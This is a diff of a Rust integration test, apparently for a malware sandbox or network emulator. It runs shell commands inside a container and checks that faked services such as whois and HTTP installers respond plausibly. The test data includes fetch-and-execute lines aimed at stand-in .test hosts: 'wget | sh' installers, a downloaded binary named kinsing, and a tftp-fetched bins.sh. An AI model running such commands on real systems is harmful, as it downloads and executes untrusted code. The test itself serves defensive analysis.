@@ -3,11 +3,11 @@
 
 use std::fs;
 
-use crate::place::{Place, shell};
+use crate::place::{Place, busybox, run};
 use crate::support::live;
 
 /// What is done, and a line of what is printed then.
-const DEEDS: [(&str, &str); 18] = [
+const DEEDS: [(&str, &str); 20] = [
     ("wget -q -O - http://x.test/install | sh", "done"),
     (
         "wget -q -O /tmp/x http://x.test/kinsing.x86_64; chmod +x /tmp/x; /tmp/x; echo program: $?",
@@ -36,6 +36,15 @@ const DEEDS: [(&str, &str); 18] = [
     ("wget -q -O - https://secure.test/install | sh", "done"),
     ("cd /tmp && tftp -g -r bins.sh tftp.test && sh bins.sh", "done"),
     ("echo example.org | nc whois.test 43", "Domain Name: example.org"),
+    // Java's own store, and a bundle of a Python package: both trust the world's authority.
+    ("od -An -tx1 -N4 /usr/lib/jvm/java-17/lib/security/jssecacerts", "fe ed fe ed"),
+    ("cat /usr/local/lib/python3.12/site-packages/certifi/cacert.pem", "own\n\n-----BEGIN CERTIFICATE-----"),
+];
+
+/// Where Java and Python have their authorities.
+const TRUSTING: [(&str, &[u8]); 2] = [
+    ("usr/lib/jvm/java-17/lib/security/cacerts", b"store"),
+    ("usr/local/lib/python3.12/site-packages/certifi/cacert.pem", b"own\n"),
 ];
 
 #[test]
@@ -46,7 +55,12 @@ fn services_answer_as_what_they_look_like() {
     let place = Place::new();
     let script: String =
         DEEDS.iter().enumerate().map(|(at, (deed, _))| format!("echo; echo deed {at}; {deed}\n")).collect();
-    let image = place.image(shell(&script));
+    let mut layer = busybox();
+    for (path, file) in TRUSTING {
+        let parents = path.match_indices('/').map(|(at, _)| &path[..at]);
+        layer = parents.fold(layer, |layer, parent| layer.directory(parent, 0o755)).file(path, file, 0o644);
+    }
+    let image = place.image(run(layer, &["/bin/sh", "-c", &script]));
     let said = place.analyze(&["--duration", "60s", &image]);
     let printed = fs::read_to_string(place.path("out/stdout")).unwrap();
     for (at, (deed, expected)) in DEEDS.iter().enumerate() {
